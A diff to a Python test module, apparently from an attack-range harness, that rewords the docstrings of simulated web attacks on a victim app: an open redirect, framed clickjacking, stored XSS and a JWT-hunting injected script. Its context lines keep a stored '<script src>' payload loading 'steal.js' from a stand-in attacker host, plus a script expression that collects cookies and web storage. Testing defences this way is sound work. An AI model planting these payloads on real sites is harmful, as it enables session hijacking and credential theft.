@@ -1,4 +1,4 @@
-"""Attacks that end in the victim's own pages: a redirect, a frame, a stored payload, a script that got in."""
+"""Attacks in which the victim's own pages take part: a redirect, a frame, a stored payload, an injected script."""
 
 import json
 import re
@@ -22,13 +22,13 @@ from attack_range.people import Person
 from attack_range.scene import Scene
 
 PROFILE = "/session/profile/"
-# All that a script finds without the help of the page's own.
+# Everything that an injected script can read without using the page's own script.
 FIND = "() => JSON.stringify([document.cookie, {...localStorage}, {...sessionStorage}, document.body.innerHTML])"
 TOKEN = re.compile(r"[\w-]{8,}\.[\w-]{8,}\.[\w-]{8,}")
 
 
 def redirect(scene: Scene) -> Try:
-    """A link to the login page, with the attacker's address as ?next=. Alice logs in there."""
+    """A link to the login page has the attacker's address as ?next=, and Alice logs in there."""
     alice, page, refusals = scene.person(), scene.browser().new_page(), list[str]()
     page.on("console", lambda message: refusals.append(message.text))
     target = scene.url("/blank", hosts.ATTACKER)
@@ -49,7 +49,7 @@ def _fill(page: Any, person: Person) -> None:
 
 
 def click_in_frame(scene: Scene) -> Try:
-    """A sibling host shows Alice's page of devices in a frame. Alice clicks where the button of that page is."""
+    """A sibling host shows Alice's page of devices in a frame, and Alice clicks where the button of that page is."""
     page = logged_in(scene, scene.person(), "session")
     session = cookie(page, settings.SESSION_COOKIE_NAME)
     page.goto(attacker_page(hosts.SIBLING, "frame", to=hosts.origin(hosts.VICTIM) + "/session/devices/"))
@@ -63,7 +63,7 @@ def click_in_frame(scene: Scene) -> Try:
 
 
 def stored_payload(scene: Scene) -> Try:
-    """A script in Alice's name, stored by somebody who could, runs when she opens her profile."""
+    """A script that is stored as Alice's name runs when she opens her profile."""
     alice, where = scene.person(), scene.url("/broken/steal.js", hosts.ATTACKER)
     alice.user.name = f"<script src={where}></script>"
     alice.user.save()
@@ -78,7 +78,7 @@ def stored_payload(scene: Scene) -> Try:
 
 
 def search(scene: Scene) -> Try:
-    """A script that got into the page of the JWT flow looks for a credential, after a reload."""
+    """A script in the page of the JWT flow looks for a credential after a reload."""
     alice = scene.person()
     page = logged_in(scene, alice, "jwt")
     page.goto(hosts.origin(hosts.VICTIM) + "/jwt/")
